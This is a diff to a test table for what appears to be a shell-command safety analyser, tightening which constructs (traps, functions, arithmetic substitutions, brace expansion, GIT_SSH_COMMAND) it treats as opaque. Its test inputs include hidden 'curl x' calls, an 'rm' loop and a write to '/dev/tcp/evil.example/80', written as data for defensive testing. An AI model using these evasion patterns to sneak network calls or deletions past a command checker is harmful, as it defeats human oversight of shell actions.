@@ -70,7 +70,7 @@ const ROWS: Row[] = [
   {
     source: `echo $HOME/x ~ *.ts {a,b} "$(cat f)"`,
     commands: ["echo", "cat"],
-    args: { 0: ["<$HOME/x>", "<~>", "<*.ts>", "<{a,b}>", '<"$(cat f)">'] },
+    args: { 0: ["<$HOME/x>", "<~>", "<*.ts>", "a", "b", '<"$(cat f)">'] },
     opaque: false,
   },
   { source: "echo a=b -- --x", commands: ["echo"], args: { 0: ["a=b", "--", "--x"] }, opaque: false },
@@ -87,8 +87,17 @@ const ROWS: Row[] = [
   { source: "cat <(curl x) >(tee y)", commands: ["cat", "curl", "tee"], opaque: false },
   { source: "X=$(curl x) true", commands: ["curl", "true"], opaque: false },
   { source: "echo ${x:-$(curl x)}", commands: ["echo", "curl"], opaque: false },
-  { source: "echo ${x/$(a)/$(b)} ${x[$(c)]}", commands: ["echo", "a", "b", "c"], opaque: false },
-  { source: "echo $(( $(id) + 1 ))", commands: ["echo", "id"], opaque: false },
+  // A subscript is arithmetic: the output of $(c) would be evaluated as arithmetic too.
+  {
+    source: "echo ${x/$(a)/$(b)} ${x[$(c)]}",
+    commands: ["echo", "a", "b", "c"],
+    opaque: /subscript or offset in "\$\{x\[\$\(c\)\]\}"/,
+  },
+  {
+    source: "echo $(( $(id) + 1 ))",
+    commands: ["echo", "id"],
+    opaque: /arithmetic "\$\(\( \$\(id\) \+ 1 \)\)" .*command substitution/,
+  },
   { source: "echo $(echo $(echo $(curl x)))", commands: ["echo", "echo", "echo", "curl"], opaque: false },
   {
     source: "echo `echo \\`curl x\\``",
@@ -97,8 +106,8 @@ const ROWS: Row[] = [
     opaque: false,
   },
   { source: "[[ $(id) == x ]]", commands: ["id"], opaque: false },
-  { source: "(( $(id) ))", commands: ["id"], opaque: false },
-  { source: "for ((i=$(id); i<3; i++)); do :; done", commands: ["id", ":"], opaque: false },
+  { source: "(( $(id) ))", commands: ["id"], opaque: /arithmetic "\(\( \$\(id\) \)\)"/ },
+  { source: "for ((i=$(id); i<3; i++)); do :; done", commands: ["id", ":"], opaque: /loop header/ },
   { source: "cat <<EOF\n$(curl x) `id`\nEOF", commands: ["cat", "curl", "id"], opaque: false },
   { source: "cat <<'EOF'\n$(curl x) `id`\nEOF", commands: ["cat"], opaque: false },
   { source: 'cat <<-"EOF"\n\t$(curl x)\n\tEOF', commands: ["cat"], opaque: false },
@@ -136,7 +145,7 @@ const ROWS: Row[] = [
   { source: "for f in $(ls); do rm $f; done", commands: ["ls", "rm"], args: { 1: ["<$f>"] }, opaque: false },
   { source: "select x in a b; do curl $x; done", commands: ["curl"], opaque: false },
   { source: "f() { curl x; }; f", commands: ["curl", "f"], opaque: /"f" is defined as a function/ },
-  { source: "function g { id; }", commands: ["id"], opaque: false },
+  { source: "function g { id; }", commands: ["id"], opaque: /defines the function "g"/ },
   { source: "coproc curl x", commands: ["curl"], opaque: false },
   { source: "time curl x", commands: ["curl"], opaque: false },
   { source: "! curl x", commands: ["curl"], opaque: false },
@@ -242,7 +251,12 @@ const ROWS: Row[] = [
   },
   { source: "env $OPTS curl x", commands: ["env"], opaque: /arguments of "env" include "\$OPTS"/ },
   { source: "find . $ACTION", commands: ["find"], opaque: /"find" is given "\$ACTION".*-exec/ },
-  { source: "trap 'curl x' EXIT", commands: ["trap", "curl"], via: { 1: ["trap"] }, opaque: false },
+  {
+    source: "trap 'curl x' EXIT",
+    commands: ["trap", "curl"],
+    via: { 1: ["trap"] },
+    opaque: /"trap" sets shell code to run later/,
+  },
   { source: "alias ls='curl x'; ls", commands: ["alias", "ls"], opaque: /"ls" is defined as an alias/ },
   {
     source: "watch 'curl x | tail'",
@@ -327,7 +341,9 @@ const ROWS: Row[] = [
     commands: ["cu*"],
     opaque: /"cu\*" is only known when the shell runs \(it contains a glob pattern\)/,
   },
-  { source: "{curl,wget} x", commands: ["{curl,wget}"], opaque: /brace expansion/ },
+  // Braces expand before anything runs: the command is curl, given wget and x.
+  { source: "{curl,wget} x", commands: ["curl"], args: { 0: ["wget", "x"] }, opaque: false },
+  { source: "{curl,$W} x", commands: ["{curl,$W}"], opaque: /only known when the shell runs/ },
   { source: "~/bin/tool", commands: ["~/bin/tool"], opaque: /starts with ~/ },
 
   // Redirections: files only, with their access.
@@ -389,11 +405,12 @@ const ROWS: Row[] = [
     redirections: ["write > /dev/tcp/evil.example/80"],
     opaque: /network connection/,
   },
+  // The folder after cd is followed (see directory-tracking.ts); the plan checks /tmp/rel.txt.
   {
     source: "cd /tmp && echo x > rel.txt",
     commands: ["cd", "echo"],
     redirections: ["write > rel.txt"],
-    opaque: /changes directory with "cd" before redirecting to the relative path "rel\.txt"/,
+    opaque: false,
   },
   {
     source: "cd /tmp && echo x > /tmp/abs.txt",
@@ -423,11 +440,13 @@ const ROWS: Row[] = [
     opaque: false,
   },
   { source: 'GIT_PAGER="$P" git log', commands: ["git"], opaque: /GIT_PAGER is set to "\$P"/ },
+  // git adds arguments of its own to GIT_SSH_COMMAND: the command is followed, but not fully seen.
   {
     source: "env GIT_SSH_COMMAND='ssh -i k' git push",
     commands: ["env", "ssh", "git"],
     via: { 1: ["GIT_SSH_COMMAND"], 2: ["env"] },
-    opaque: false,
+    opaque:
+      /GIT_SSH_COMMAND is set to "ssh -i k", a command that programs run with arguments of their own added/,
   },
 
   // Invisible and lookalike characters.
